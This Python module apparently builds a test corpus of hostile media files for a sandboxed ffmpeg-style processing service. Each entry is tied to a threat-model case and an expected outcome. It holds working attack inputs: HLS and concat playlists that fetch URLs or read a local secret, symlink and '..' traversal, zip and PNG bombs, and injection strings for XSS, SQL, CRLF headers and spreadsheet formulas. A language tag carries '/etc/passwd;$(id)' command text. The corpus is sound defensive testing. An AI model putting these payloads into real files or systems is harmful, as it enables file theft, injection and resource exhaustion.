"""The attack corpus: one function for each file, with the case of the threat model that it stands for and how its job must end.

A function writes at the path that it is given and returns the input that the job names, mostly that path.
"""

import os
import socket
import stat
import subprocess
import zlib
from collections.abc import Callable, Sequence
from pathlib import Path

from msgspec import Struct

from hostile import containers as made
from hostile.canary import Canary

ANYHOW = "completed or failed"
"""Both are right: what counts is that nothing was touched."""


class Kit:
    """What corpora are made of: real little films, made when first needed."""

    def __init__(self, ffmpeg: Path, folder: Path, canary: Canary) -> None:
        self.folder, self.canary = folder, canary
        self._ffmpeg = ffmpeg

    def run(self, *arguments: str) -> None:
        subprocess.run([self._ffmpeg, "-nostdin", "-v", "error", "-y", *arguments], check=True, capture_output=True)

    def clip(self, name: str, *options: str, size: str = "64x64", seconds: float = 0.4) -> Path:
        """Moving bars and a tone."""
        path = self.folder / name
        if not path.exists():
            bars, tone = f"testsrc2=s={size}:r=25:d={seconds}", f"sine=d={seconds}:sample_rate=48000"
            self.run("-f", "lavfi", "-i", bars, "-f", "lavfi", "-i", tone, *options, str(path))
        return path

    @property
    def plain(self) -> Path:
        return self.clip("plain.mp4", "-c:v", "libx264", "-preset", "ultrafast", "-c:a", "aac")

    @property
    def jpeg(self) -> bytes:
        return self.picture("64x64", "yuvj420p")

    def picture(self, size: str, pixels: str) -> bytes:
        path = self.folder / f"{size}-{pixels}.jpg"
        if not path.exists():
            self.run("-f", "lavfi", "-i", f"testsrc2=s={size}", "-frames:v", "1", "-pix_fmt", pixels, str(path))
        return path.read_bytes()


Make = Callable[[Kit, Path], str | None]


class Attack(Struct, frozen=True, kw_only=True):
    """One file. `case` is its number in the threat model, `ends` the class of the failure, `completed` or `ANYHOW`, `says` a part of
    the sentence; `timeout_s` a limit of the job's own.
    """

    name: str
    case: int
    make: Make
    ends: str
    says: str = ""
    suffix: str = ".mp4"
    metadata: str = "keep"
    timeout_s: float | None = None


ATTACKS: list[Attack] = []
KIND = "of a kind that is not accepted"
DAMAGED = "damaged or no media file"


def attack(
    case: int, ends: str = "input", says: str = "", *, suffix: str = ".mp4", timeout_s: float | None = None
) -> Callable[[Make], Make]:
    """Enter a function into the corpus."""

    def enter(make: Make) -> Make:
        name = make.__name__.strip("_")
        ATTACKS.append(
            Attack(name=name, case=case, make=make, ends=ends, says=says, suffix=suffix, timeout_s=timeout_s)
        )
        return make

    return enter


def _write(path: Path, text: str | bytes) -> None:
    path.write_bytes(text.encode() if isinstance(text, str) else text)


# 1 to 6: files that name others --------------------------------------------------------------------------------------------


def _playlist(*entries: str) -> str:
    listed = "".join(f"#EXTINF:1,\n{entry}\n" for entry in entries)
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n{listed}#EXT-X-ENDLIST\n"


def _text(case: int, name: str, suffix: str, text: Callable[[Canary], str], says: str = "") -> None:
    def make(kit: Kit, path: Path) -> None:
        _write(path, text(kit.canary))

    make.__name__ = name
    attack(case, says=says, suffix=suffix)(make)


for _suffix in (".mp4", ".avi", ".ts", ".m3u8"):
    _text(
        1,
        f"playlist_of_the_web_as_{_suffix[1:]}",
        _suffix,
        lambda canary: _playlist(canary.url),
        KIND if _suffix == ".m3u8" else "",
    )
_text(2, "playlist_of_a_secret", ".mp4", lambda canary: _playlist(f"file://{canary.secret}", str(canary.film)))
_text(
    2,
    "playlist_that_sends_a_secret",
    ".mp4",
    lambda canary: _playlist(f"concat:{canary.url}|file://{canary.secret}"),
)
_text(2, "playlist_of_a_key", ".mp4", lambda canary: _playlist(str(canary.film)).replace(
    "#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{canary.url}"\n#EXTINF', 1))  # fmt: skip


@attack(3, ANYHOW, suffix=".avi")
def playlist_in_a_subtitle(kit: Kit, path: Path) -> None:
    _write(path, made.avi_with_subtitle(kit.jpeg, _playlist(kit.canary.url, str(kit.canary.film)).encode()))


_text(4, "dash", ".mp4", lambda canary: f"""<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"
 mediaPresentationDuration="PT1S" profiles="urn:mpeg:dash:profile:isoff-main:2011"><Period><AdaptationSet mimeType="video/mp4">
<Representation id="1" bandwidth="1000"><BaseURL>{canary.url}</BaseURL><SegmentList duration="1"><SegmentURL media="{canary.url}"/>
</SegmentList></Representation></AdaptationSet></Period></MPD>""", KIND)  # fmt: skip
_text(4, "smil", ".smil", lambda canary: f'<smil><body><video src="{canary.url}"/></body></smil>')
_text(
    4,
    "xspf",
    ".xspf",
    lambda canary: f"<playlist><trackList><track><location>{canary.url}</location></track></trackList></playlist>",
)
_text(4, "asx", ".asx", lambda canary: f'<asx version="3.0"><entry><ref href="{canary.url}"/></entry></asx>')
_text(4, "reference_movie", ".mov", lambda canary: f"rtsptext\nrtsp://127.0.0.1:{canary.port}/x")
_text(4, "session_description", ".sdp", lambda canary: (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video "
    f"{canary.port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"), KIND)  # fmt: skip


@attack(4, ANYHOW)
def quicktime_data_reference(kit: Kit, path: Path) -> None:
    """A film whose samples lie, as it says, in another file."""
    data = bytearray(kit.plain.read_bytes())
    at = data.index(b"url \0\0\0\1")
    data[at : at + 8] = b"alis\0\0\0\0"
    _write(path, bytes(data))


for _name, _entry in {
    "absolute": lambda canary: str(canary.film),
    "relative": lambda canary: os.path.relpath(canary.film, canary.folder.parent / "media"),
    "beside": lambda canary: "good.mp4",
    "web": lambda canary: canary.url,
}.items():
    _text(
        5,
        f"script_that_names_one_{_name}",
        ".mp4",
        lambda canary, entry=_entry: f"ffconcat version 1.0\nfile '{entry(canary)}'\n",
        KIND,
    )

_text(6, "terminal_text", ".txt", lambda canary: f"{canary.word} some text\n" * 50)
_text(6, "terminal_drawing", ".ans", lambda canary: "\x1b[2J\x1b[1;31mred\x1b[0m\n" * 200)
_text(6, "subtitles_alone", ".vtt", lambda canary: f"WEBVTT\n\n00:00.000 --> 00:01.000\n{canary.url}\n", KIND)
_text(6, "styled_subtitles_alone", ".ass", lambda canary: (
    f"[Script Info]\nScriptType: v4.00+\n\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,,,0,0,0,,{{\\fn{canary.secret}}}x\n"), KIND)  # fmt: skip
_text(
    6,
    "picture_script",
    ".mp4",
    lambda canary: f"push graphic-context\nimage over 0,0 0,0 '{canary.url}'\npop graphic-context\n" * 9,
)


@attack(6, suffix=".xb")
def terminal_picture(kit: Kit, path: Path) -> None:
    _write(path, b"XBIN\x1a" + (80).to_bytes(2, "little") + (25).to_bytes(2, "little") + b"\x10\0" + b"A\x07" * 2000)


# 7 to 9: decoders and pictures ----------------------------------------------------------------------------------------------


@attack(7, says="magicyuv (stream 0), a codec that is not accepted", suffix=".avi")
def decoder_of_a_hole(kit: Kit, path: Path) -> None:
    """MagicYUV, of CVE-2026-8461."""
    path.write_bytes(kit.clip("magic.avi", "-c:v", "magicyuv", "-c:a", "mp3").read_bytes())


@attack(7, says="a codec that cannot be decoded", suffix=".mkv")
def vector_picture_in_a_film(kit: Kit, path: Path) -> None:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><image href="{kit.canary.url}"/></svg>'.encode()
    _write(
        path,
        made.matroska([made.picture_track(1, 64, 64, fourcc=b"svg ")], *(made.block(1, at, svg) for at in (0, 40, 80))),
    )


@attack(7)
def encrypted(kit: Kit, path: Path) -> None:
    keys = ("-encryption_key", "00" * 16, "-encryption_kid", "11" * 16)
    source = kit.clip("cenc.mp4", "-c:v", "libx264", "-c:a", "aac", "-encryption_scheme", "cenc-aes-ctr", *keys)
    path.write_bytes(source.read_bytes())


@attack(8, says="more than the 35.4 million pixels", suffix=".mkv")
def large_picture_in_a_film(kit: Kit, path: Path) -> None:
    picture = made.png(16000, 16000)
    _write(
        path,
        made.matroska(
            [made.picture_track(1, 16000, 16000, fourcc=b"MPNG")], made.block(1, 0, picture), made.block(1, 40, picture)
        ),
    )


@attack(8, says="more than the 35.4 million pixels", suffix=".mkv")
def large_picture_that_says_it_is_small(kit: Kit, path: Path) -> None:
    picture = made.png(16000, 16000)
    _write(
        path,
        made.matroska(
            [made.picture_track(1, 64, 64, fourcc=b"MPNG")], made.block(1, 0, picture), made.block(1, 40, picture)
        ),
    )


@attack(8, says=KIND, suffix=".png")
def large_picture_alone(kit: Kit, path: Path) -> None:
    _write(path, made.png(16000, 16000))


@attack(8, says="pictures of 65535x16", suffix=".mkv")
def wide_picture(kit: Kit, path: Path) -> None:
    _write(path, made.slides(made.jpeg_of(kit.jpeg, 65535, 16), (0, 40), size=(65535, 16)))


@attack(8, says="is to be shown as pictures of", suffix=".mkv")
def wide_pixels(kit: Kit, path: Path) -> None:
    picture, track = made.png(64, 64), made.picture_track(1, 64, 64, fourcc=b"MPNG", display=(60000, 60))
    _write(path, made.matroska([track], made.block(1, 0, picture), made.block(1, 40, picture)))


@attack(9, suffix=".mkv")
def pictures_that_grow(kit: Kit, path: Path) -> None:
    grown = made.jpeg_of(kit.jpeg, 16384, 16384)
    _write(
        path,
        made.matroska(
            [made.picture_track(1, 64, 64)], *(made.block(1, at * 40, grown if at > 4 else kit.jpeg) for at in range(9))
        ),
    )


@attack(9, ANYHOW, suffix=".mkv")
def pictures_that_change(kit: Kit, path: Path) -> None:
    kinds = [kit.jpeg, kit.picture("320x200", "yuvj444p"), kit.picture("2048x16", "gray")]
    _write(
        path,
        made.matroska([made.picture_track(1, 64, 64)], *(made.block(1, at * 40, kinds[at % 3]) for at in range(30))),
    )


# 10 and 11: times -----------------------------------------------------------------------------------------------------------


@attack(10, "completed", suffix=".mkv")
def gap_that_is_small(kit: Kit, path: Path) -> None:
    _write(path, made.slides(kit.jpeg, (0, 40, 4000, 4040, 4080)))


@attack(10, says="has gaps: its 4 frames", suffix=".mkv")
def gap_of_hours(kit: Kit, path: Path) -> None:
    _write(path, made.slides(kit.jpeg, (0, 17, 34, 20 * 3600 * 1000)))


@attack(10, says="hours; at most 48 are taken", suffix=".mkv")
def gap_of_years(kit: Kit, path: Path) -> None:
    _write(path, made.slides(kit.jpeg, (0, 40, 10**12)))


@attack(10, says="has gaps: its sound of 2 packets", suffix=".mkv")
def gap_of_sound(kit: Kit, path: Path) -> None:
    tracks = [made.picture_track(1, 64, 64), made.sound_track(2, 48000)]
    blocks = [
        made.block(1, 0, kit.jpeg),
        made.block(2, 0, bytes(960)),
        made.block(1, 40, kit.jpeg),
        made.block(2, 40 * 3600 * 1000, bytes(960)),
    ]
    _write(path, made.matroska(tracks, *blocks))


for _name, _length in {
    "of_years": 1e15,
    "of_no_number": float("nan"),
    "without_end": float("inf"),
    "below_zero": -1e9,
}.items():

    def _declared(kit: Kit, path: Path, length: float = _length) -> None:
        _write(path, made.slides(kit.jpeg, (0, 40, 80), length_ms=length))

    _declared.__name__ = f"length_{_name}"
    attack(11, "input" if _name == "of_years" else ANYHOW, "cut short" if _name == "of_years" else "", suffix=".mkv")(
        _declared
    )


def _patched(kit: Kit, path: Path, box: bytes, offset: int, value: bytes) -> None:
    data = bytearray(kit.plain.read_bytes())
    at = data.index(box) + 4 + offset
    data[at : at + len(value)] = value
    _write(path, bytes(data))


@attack(11, ANYHOW)
def length_of_the_longest(kit: Kit, path: Path) -> None:
    _patched(kit, path, b"mvhd", 16, b"\xff\xff\xff\xff")


@attack(11, ANYHOW)
def clock_that_stands(kit: Kit, path: Path) -> None:
    _patched(kit, path, b"mdhd", 12, b"\0\0\0\0")


@attack(11, ANYHOW)
def edit_of_minus_one(kit: Kit, path: Path) -> None:
    _patched(kit, path, b"elst", 8, b"\xff\xff\xff\xff\xff\xff\xff\xff")


@attack(11, ANYHOW)
def frame_that_lasts_for_years(kit: Kit, path: Path) -> None:
    _patched(kit, path, b"stts", 12, b"\x7f\xff\xff\xff")


# 12 and 13: many and compressed -------------------------------------------------------------------------------------------------


def _tracks(kit: Kit, path: Path, count: int) -> None:
    tracks = [made.picture_track(1, 64, 64), *(made.sound_track(number, 48000) for number in range(2, count + 1))]
    _write(path, made.matroska(tracks, made.block(1, 0, kit.jpeg), made.block(1, 40, kit.jpeg)))


@attack(12, says="more streams than the 200", suffix=".mkv")
def streams_300(kit: Kit, path: Path) -> None:
    _tracks(kit, path, 300)


@attack(12, says="more streams than the 200", suffix=".mkv")
def streams_10000(kit: Kit, path: Path) -> None:
    _tracks(kit, path, 10_000)


@attack(12, "completed", suffix=".mkv")
def chapters_10000(kit: Kit, path: Path) -> None:
    _write(path, made.slides(kit.jpeg, (0, 40, 80), made.chapters(10_000)))


@attack(12, says="description has no end", suffix=".mkv")
def tags_of_ten_million_lines(kit: Kit, path: Path) -> None:
    _write(path, made.slides(kit.jpeg, (0, 40, 80), made.tag(b"T", b"\n" * 10_000_000)))


@attack(12, ANYHOW, suffix=".mkv")
def tags_of_100_megabytes(kit: Kit, path: Path) -> None:
    tags = (made.tag(b"T%d" % number, b"x" * 10_000_000) for number in range(10))
    _write(path, made.slides(kit.jpeg, (0, 40, 80), *tags))


@attack(12, says="more streams than the 200", suffix=".mkv")
def attachments(kit: Kit, path: Path) -> None:
    files = (made.attachment(number, f"{number}.ttf", "font/ttf", bytes(1000)) for number in range(1000))
    _write(path, made.slides(kit.jpeg, (0, 40, 80), made.element(0x1941A469, *files)))


@attack(12, "completed", suffix=".mkv")
def cover_in_a_codec_that_nobody_reads(kit: Kit, path: Path) -> None:
    cover = made.element(0x1941A469, made.attachment(0, "cover.tiff", "image/tiff", b"II*\0\x08\0\0\0\0\0\0\0\0\0"))
    _write(path, made.slides(kit.jpeg, (0, 40, 80), cover))


@attack(13, suffix=".mkv")
def block_that_inflates(kit: Kit, path: Path) -> None:
    track = made.compressed(made.picture_track(1, 64, 64))
    bomb = zlib.compress(bytes(100_000_000), 9)
    _write(path, made.matroska([track], *(made.block(1, at * 40, bomb) for at in range(5))))


@attack(13, ANYHOW, suffix=".mkv", timeout_s=30)
def picture_that_inflates(kit: Kit, path: Path) -> None:
    picture = made.png(6000, 4000)
    blocks = (made.block(1, at * 40, picture) for at in range(3))
    _write(path, made.matroska([made.picture_track(1, 6000, 4000, fourcc=b"MPNG")], *blocks))


@attack(13, "timeout", "the job's time limit passed", suffix=".gif", timeout_s=1.5)
def frames_100000(kit: Kit, path: Path) -> None:
    _write(path, made.gif(100_000))


# 14 to 16: files that are none ---------------------------------------------------------------------------------------------------


@attack(14, says="it is no regular file")
def pipe(kit: Kit, path: Path) -> None:
    os.mkfifo(path)


@attack(14)
def hole_of_a_terabyte(kit: Kit, path: Path) -> None:
    path.write_bytes(kit.plain.read_bytes()[:1000])
    os.truncate(path, 1 << 40)


@attack(15, "completed")
def film_and_archive(kit: Kit, path: Path) -> None:
    _write(path, kit.plain.read_bytes() + b"PK\x03\x04" + bytes(26) + b"x" + b"PK\x05\x06" + bytes(18))


@attack(15)
def page_and_film(kit: Kit, path: Path) -> None:
    _write(path, b"<!doctype html><script>alert(1)</script><!--" + kit.plain.read_bytes() + b"-->")


_text(15, "vector_picture", ".svg", lambda canary: (
    f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
    f'<image xlink:href="{canary.url}" width="9" height="9"/></svg>'))  # fmt: skip
_text(
    15,
    "document",
    ".pdf",
    lambda canary: f"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({canary.url})>>>>endobj\n%%EOF\n",
)
_text(15, "shell_script", ".sh", lambda canary: f"#!/bin/sh\ncat {canary.secret}\n" * 50)


@attack(16, "request", "lies outside the allowed roots")
def link_to_a_secret(kit: Kit, path: Path) -> None:
    path.symlink_to(kit.canary.film)


@attack(16, "request", "lies outside the allowed roots")
def link_to_a_folder_with_a_secret(kit: Kit, path: Path) -> str:
    path.symlink_to(kit.canary.folder)
    return str(path / kit.canary.film.name)


@attack(16, "request", "holds `..`")
def way_back(kit: Kit, path: Path) -> str:
    return f"{path.parent}/../{kit.canary.folder.name}/{kit.canary.film.name}"


@attack(16, says="it is no regular file")
def listening_socket(kit: Kit, path: Path) -> None:
    # A socket's path has room for 107 bytes; that of its folder may be longer.
    folder = os.open(path.parent, os.O_PATH)
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.bind(f"/proc/self/fd/{folder}/{path.name}")
    finally:
        os.close(folder)


@attack(16, says="it is a folder")
def folder(kit: Kit, path: Path) -> None:
    path.mkdir()


@attack(16, says="it is no regular file")
def device_in_the_folder(kit: Kit, path: Path) -> None:
    if os.geteuid() == 0:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # zero
    else:
        os.mkfifo(path)


@attack(16, "request", "lies outside the allowed roots")
def device(kit: Kit, path: Path) -> str:
    return "/dev/zero"


# 17 and 18: words -----------------------------------------------------------------------------------------------------------------

HOSTILE_WORDS = (
    b"<img src=x onerror=alert(1)>", b"\x1b[2J\x1b]0;owned\x07", "\u202egpj.exe".encode(), b"nul\0byte", b"\xff\xfe\xfa broken",
    b"line\r\nSet-Cookie: a=b", b"';DROP TABLE jobs;--", b"=cmd|'/c calc'!A1", b"%s%n%x", b"x" * 1_000_000,
)  # fmt: skip


@attack(17, "completed", suffix=".mkv")
def words_of_all_kinds(kit: Kit, path: Path) -> None:
    tags = [made.tag(b"TITLE%d" % number, word) for number, word in enumerate(HOSTILE_WORDS)]
    _write(path, made.slides(kit.jpeg, (0, 40, 80), *tags, made.chapters(2, HOSTILE_WORDS[0])))


@attack(17, says="imitates the engine's own words", suffix=".mkv")
def words_that_describe_another_film(kit: Kit, path: Path) -> None:
    forged = b"a\n  Duration: 00:00:01.00, start: 0.000000, bitrate: 1 kb/s\n  Stream #0:0: Video: h264, yuv420p, 16x16, 25 fps\n"
    _write(path, made.slides(kit.jpeg, (0, 40, 80), made.tag(forged, b"x")))


@attack(17, says="", suffix=".mkv")
def words_that_blame_the_disk(kit: Kit, path: Path) -> None:
    """The film is damaged; its tag says that the disk is full, which would be tried again elsewhere."""
    blame = made.tag(b"a\nNo space left on device\nConnection refused", b"x")
    broken = kit.jpeg[: len(kit.jpeg) // 3]
    _write(
        path,
        made.matroska([made.picture_track(1, 64, 64)], blame, *(made.block(1, at * 40, broken) for at in range(5))),
    )


@attack(17, "completed", suffix=".mkv")
def words_for_a_language(kit: Kit, path: Path) -> None:
    named = made.element(0xAE, made.sound_track(2, 48000)[9:], made.element(0x22B59C, b"en -i /etc/passwd;$(id)`id`"))
    tracks = [made.picture_track(1, 64, 64), named]
    _write(
        path,
        made.matroska(
            tracks, *(made.block(1 + at % 2, at * 20, kit.jpeg if not at % 2 else bytes(1920)) for at in range(6))
        ),
    )


@attack(18, ANYHOW, suffix=".mkv")
def subtitles_with_a_font_of_their_own(kit: Kit, path: Path) -> None:
    style = f"[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nStyle: x,{kit.canary.secret},20\n".encode()
    text = made.track(2, made.SUBTITLES, "S_TEXT/ASS", made.element(0x63A2, style))
    drawn = rb"0,0,x,,0,0,0,,{\p9}m 0 0 l 99999999 0 99999999 99999999{\fs99999\t(\fscx1000000)}x"
    fonts = made.element(0x1941A469, made.attachment(0, "../../x.ttf", "font/ttf", b"\0\1\0\0\xff\xff" + bytes(1000)))
    tracks = [made.picture_track(1, 64, 64), text]
    _write(
        path,
        made.matroska(tracks, fonts, made.block(1, 0, kit.jpeg), made.block(2, 0, drawn), made.block(1, 40, kit.jpeg)),
    )


CASES: Sequence[int] = sorted({one.case for one in ATTACKS})
